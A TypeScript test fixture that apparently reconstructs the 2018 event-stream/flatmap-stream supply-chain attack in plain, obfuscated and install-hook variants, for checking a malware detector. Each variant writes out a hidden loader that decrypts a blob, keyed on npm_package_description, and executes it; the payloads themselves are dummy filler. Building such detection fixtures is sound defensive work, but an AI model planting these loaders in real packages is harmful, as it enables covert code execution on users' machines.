import { type Campaign, entry, scripted, tabled } from './kit.ts';

export const campaign: Campaign = {
  id: 'event-stream',
  row: 'event-stream/flatmap-stream 2018',
  variants: [
    {
      concealment: 'plain',
      files: entry(
        `!function () {
  try {
    var r = require, t = process;
    function e(r) { return Buffer.from(r, 'hex').toString(); }
    var n = r(e('2e2f746573742f64617461')), o = t[e(n[3])][e(n[4])];
    if (!o) return;
    var u = r(e(n[2]))[e(n[6])](e(n[5]), o), a = u.update(n[0], e(n[8]), e(n[9]));
    a += u.final(e(n[9]));
    var f = new module.constructor;
    f.paths = module.paths, f[e(n[7])](a, ''), f.exports(n[1]);
  } catch (r) {}
}();
module.exports = function flatmap(fn) { return fn; };
`,
        {
          'test/data.js': `module.exports = ['${'75d4c87f3f69e0fa'.repeat(8)}', '${'db67fdbfc39c2491'.repeat(4)}', '63727970746f', '656e76', '6e706d5f7061636b6167655f6465736372697074696f6e', '616573323536', '6372656174654465636970686572', '5f636f6d70696c65', '686578', '75746638'];\n`,
        },
      ),
    },
    {
      concealment: 'obfuscated',
      files: entry(
        tabled(
          'base64',
          (
            h,
          ) => `const c = require(${h('crypto')}), d = c[${h('createDecipheriv')}](${h('aes-256-cbc')}, process[${h('env')}][${h('npm_package_description')}], Buffer[${h('alloc')}](16));
let s = d[${h('update')}](${h('75d4c87f3f69e0fa75d4c87f3f69e0fa')}, ${h('hex')}, ${h('utf8')}) + d[${h('final')}](${h('utf8')});
const m = new module[${h('constructor')}]();
m[${h('_compile')}](s, '');
`,
        ),
      ),
    },
    {
      concealment: 'moved',
      files: scripted(
        { install: 'node scripts/after.cjs' },
        {
          'scripts/after.cjs': `const crypto = require('crypto'), fs = require('fs'), vm = require('vm');
const blob = fs.readFileSync(__dirname + '/../test/fixtures/data.bin');
const key = crypto.createHash('sha256').update(process.env.npm_package_description || '').digest();
const d = crypto.createDecipheriv('aes-256-cbc', key, blob.subarray(0, 16));
vm.runInThisContext(Buffer.concat([d.update(blob.subarray(16)), d.final()]).toString());
`,
          'test/fixtures/data.bin': new Uint8Array(256).fill(7),
        },
      ),
    },
  ],
};
